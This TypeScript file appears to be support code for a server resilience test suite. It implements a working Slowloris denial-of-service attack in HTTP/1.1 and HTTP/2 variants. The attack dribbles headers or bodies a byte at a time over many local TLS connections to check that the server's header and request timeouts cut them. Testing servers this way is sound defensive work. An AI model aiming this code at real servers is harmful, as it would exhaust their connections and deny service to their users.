// Slowloris: many connections that send a request a byte at a time and never finish it, held
// open by the attacker. Each must be cut by the server's own deadline, as Go's server cuts it:
// - headers over HTTP/1.1: --read-header-timeout (kube's ReadHeaderTimeout, 32 s);
// - headers over HTTP/2: a header block never finished on a new connection, which must open its
//   first stream by the same deadline;
// - bodies (HTTP/1.1 and HTTP/2): a POST whose body comes a byte at a time gets 504 Timeout at
//   --request-timeout, and its connection (HTTP/2: its stream) ends.

import tls from 'node:tls';
import type { TestServer } from '../../e2e/harness.js';
import { connectH2, frame, FRAME, requestHeaders, type RawH2 } from '../support/h2-raw.js';
import { measureAttack, type AttackFigures } from '../support/measure.js';

const SC = '/apis/networking.platform.io/v1/servicecidrs';

export type Slowloris = 'http1-headers' | 'h2-headers' | 'http1-body' | 'h2-body';

export interface SlowlorisOptions {
  kind: Slowloris;
  connections?: number;
  /** A byte (HTTP/2: a frame's byte) every `everyMs`. */
  everyMs?: number;
  durationMs: number;
  afterMs?: number;
}

export interface SlowlorisFigures extends AttackFigures {
  opened: number;
  /** Connections (HTTP/2 bodies: streams) the server ended by the end of the "after" phase. */
  ended: number;
  /** What the server answered the slow bodies (status counts). */
  answers: Record<string, number>;
}

interface Victim {
  ended: boolean;
  status?: number;
  close(): void;
}

/** Writes `bytes` a byte at a time on `write` until `stop` says so. */
function dribble(bytes: Buffer, everyMs: number, write: (b: Buffer) => boolean): NodeJS.Timeout {
  let at = 0;
  const timer = setInterval(() => {
    if (at >= bytes.length || !write(bytes.subarray(at, at + 1))) return void clearInterval(timer);
    at++;
  }, everyMs);
  return timer;
}

function http1(server: TestServer, kind: 'http1-headers' | 'http1-body', everyMs: number): Victim {
  const v: Victim = { ended: false, close: () => socket.destroy() };
  let timer: NodeJS.Timeout | undefined;
  const body = Buffer.from(JSON.stringify({ apiVersion: 'networking.platform.io/v1', kind: 'ServiceCIDR', metadata: { name: 'slow' }, spec: { cidrs: ['10.33.0.0/24'] } }).padEnd(100_000));
  const head = `POST ${SC} HTTP/1.1\r\nHost: 127.0.0.1\r\nAuthorization: Bearer ${server.token}\r\nContent-Type: application/json\r\nContent-Length: ${body.length}\r\nX-Padding: ${'p'.repeat(4000)}\r\n\r\n`;
  const socket = tls.connect({ host: '127.0.0.1', port: server.port, ca: server.caCertPem, servername: 'localhost', ALPNProtocols: ['http/1.1'] }, () => {
    if (kind === 'http1-headers') timer = dribble(Buffer.from(head), everyMs, (b) => !socket.destroyed && socket.write(b) !== undefined);
    else {
      socket.write(head);
      timer = dribble(body, everyMs, (b) => !socket.destroyed && socket.write(b) !== undefined);
    }
  });
  let text = '';
  socket.on('data', (c: Buffer) => {
    text += c.toString('latin1');
    const m = /^HTTP\/1\.1 (\d+)/.exec(text);
    if (m) v.status = Number(m[1]);
  });
  socket.on('error', () => undefined);
  socket.once('close', () => {
    clearInterval(timer);
    v.ended = true;
  });
  return v;
}

function h2(server: TestServer, kind: 'h2-headers' | 'h2-body', everyMs: number): Victim {
  const v: Victim = { ended: false, close: () => raw?.socket.destroy() };
  let raw: RawH2 | undefined;
  let timer: NodeJS.Timeout | undefined;
  void connectH2(server.port, server.caCertPem).then(
    (r) => {
      raw = r;
      if (kind === 'h2-headers') {
        // A HEADERS frame of a request, a byte at a time: its block never ends.
        timer = dribble(frame(FRAME.HEADERS, 0x4, 1, requestHeaders(SC, server.token, 'POST', [['content-type', 'application/json']])), everyMs, (b) => r.write(b));
      } else {
        r.write(frame(FRAME.HEADERS, 0x4, 1, requestHeaders(SC, server.token, 'POST', [['content-type', 'application/json'], ['content-length', '100000']])));
        // DATA frames of one byte each.
        timer = setInterval(() => {
          if (!r.write(frame(FRAME.DATA, 0, 1, Buffer.from('{')))) clearInterval(timer);
        }, everyMs);
      }
      const poll = setInterval(() => {
        const status = r.responded.has(1) || r.resets.has(1);
        if (status) v.status = r.responded.has(1) ? 504 : 0;
        // The stream answered (504) or reset, or the connection gone: ended.
        if (kind === 'h2-body' ? r.responded.has(1) || r.resets.has(1) : false) {
          v.ended = true;
          clearInterval(timer);
          clearInterval(poll);
        }
      }, 100);
      void r.closed.then(() => {
        clearInterval(timer);
        clearInterval(poll);
        v.ended = true;
      });
    },
    () => (v.ended = true),
  );
  return v;
}

export async function slowloris(server: TestServer, o: SlowlorisOptions): Promise<SlowlorisFigures> {
  const victims: Victim[] = [];
  let counted: Pick<SlowlorisFigures, 'ended' | 'answers'> = { ended: 0, answers: {} };
  const figures = await measureAttack({
    name: `slowloris: ${o.kind}, ${o.connections ?? 100} connections, a byte every ${o.everyMs ?? 500} ms`,
    server,
    durationMs: o.durationMs,
    afterMs: o.afterMs,
    start: async () => {
      // Opened 10 every 100 ms (a storm of handshakes is another attack: handshake-slots).
      const total = o.connections ?? 100;
      let opening = true;
      const opened = (async () => {
        for (let i = 0; i < total && opening; i++) {
          const kind = o.kind;
          victims.push(kind === 'http1-headers' || kind === 'http1-body' ? http1(server, kind, o.everyMs ?? 500) : h2(server, kind, o.everyMs ?? 500));
          if (i % 10 === 9) await new Promise((r) => setTimeout(r, 100));
        }
      })();
      return {
        stop: async () => {
          opening = false;
          await opened;
        },
        release: () => {
          const answers: Record<string, number> = {};
          for (const v of victims) if (v.status !== undefined) answers[v.status] = (answers[v.status] ?? 0) + 1;
          counted = { ended: victims.filter((v) => v.ended).length, answers };
          for (const v of victims) v.close();
        },
      };
    },
  });
  return { ...figures, opened: victims.length, ...counted };
}
